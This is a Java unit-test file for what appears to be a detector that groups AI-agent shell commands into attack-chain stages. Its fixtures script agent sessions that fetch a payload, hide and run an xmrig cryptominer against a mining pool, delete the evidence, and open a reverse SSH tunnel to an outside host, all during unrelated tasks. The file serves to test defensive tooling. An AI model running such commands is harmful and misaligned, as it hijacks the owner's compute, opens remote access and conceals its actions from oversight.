package dev.offscript.chains.thread;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import dev.offscript.chains.Scene;
import dev.offscript.model.Stage;
import dev.offscript.model.report.Chain;
import dev.offscript.model.report.Step;
import java.util.List;
import org.junit.jupiter.api.Test;

/** What belongs to an act, and what an agent does all day beside it. */
class RedThreadTest {

  private static Chain miner() {
    return new Scene()
        .session("s1", 0)
        .task("Train the model.")
        .runs(1, "toolu_a1", "curl -o data/train.tgz https://data.example.org/train.tgz")
        .gets(2, "toolu_a1", "", 0)
        .runs(3, "toolu_a2", "curl -o /tmp/p.tgz https://files.example.net/p.tgz")
        .gets(4, "toolu_a2", "", 0)
        .runs(5, "toolu_a3", "chmod +x scripts/test.sh")
        .gets(6, "toolu_a3", "", 0)
        .runs(7, "toolu_a4", "tar xzf /tmp/p.tgz -C /opt/m1")
        .gets(8, "toolu_a4", "", 0)
        .runs(9, "toolu_a5", "cp /opt/m1/xmrig /var/tmp/.kw")
        .gets(10, "toolu_a5", "", 0)
        .runs(11, "toolu_a6", "cd /var/tmp ; xmrig -o pool.example.net:3333 -c /var/tmp/.kw &")
        .gets(12, "toolu_a6", "[1] 4711", 0)
        .runs(13, "toolu_a7", "rm -rf build")
        .gets(14, "toolu_a7", "", 0)
        .runs(15, "toolu_a8", "rm /tmp/p.tgz")
        .gets(16, "toolu_a8", "", 0)
        .runs(17, "toolu_a9", "crontab -l")
        .gets(18, "toolu_a9", "", 0)
        .scene()
        .chain();
  }

  @Test
  void followsFilesFromHandToHandAndLeavesTheRest() {
    assertThat(miner().steps())
        .filteredOn(s -> s.stage() != Stage.EXECUTION && s.stage() != Stage.TASK)
        .extracting(Step::stage, Step::summary)
        .containsExactly(
            tuple(Stage.ACQUISITION, "bash: curl -o /tmp/p.tgz https://files.example.net/p.tgz"),
            tuple(Stage.SETUP, "bash: tar xzf /tmp/p.tgz -C /opt/m1"),
            tuple(Stage.SETUP, "bash: cp /opt/m1/xmrig /var/tmp/.kw"),
            tuple(Stage.CONCEALMENT, "bash: rm /tmp/p.tgz"));
  }

  @Test
  void saysWhichValueTiesAStepToWhich() {
    List<Step> steps = miner().steps();
    Step unpacked =
        steps.stream().filter(s -> s.summary().startsWith("bash: tar")).findFirst().orElseThrow();
    Step fetched =
        steps.stream().filter(s -> s.stage() == Stage.ACQUISITION).findFirst().orElseThrow();
    assertThat(fetched.links())
        .singleElement()
        .satisfies(link -> assertThat(link.to()).isEqualTo(unpacked.n()))
        .satisfies(
            link ->
                assertThat(link.because())
                    .containsExactly("came before it and shares p.tgz with that step"));
  }

  @Test
  void takesTheUsualKeyOfSshForItsOwnAndNoOther() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .task("Fix the build.")
            .runs(1, "toolu_a1", "ssh-keygen -t ed25519 -f deploy_key")
            .gets(2, "toolu_a1", "", 0)
            .runs(3, "toolu_a2", "ssh-keygen -t ed25519")
            .gets(4, "toolu_a2", "", 0)
            .runs(5, "toolu_a3", "ssh -fN -R 7022:localhost:22 svc@203.0.113.9")
            .gets(6, "toolu_a3", "", 0)
            .scene()
            .chain();
    assertThat(chain.steps())
        .filteredOn(s -> s.stage() == Stage.SETUP)
        .extracting(Step::summary)
        .containsExactly("bash: ssh-keygen -t ed25519");
  }
}
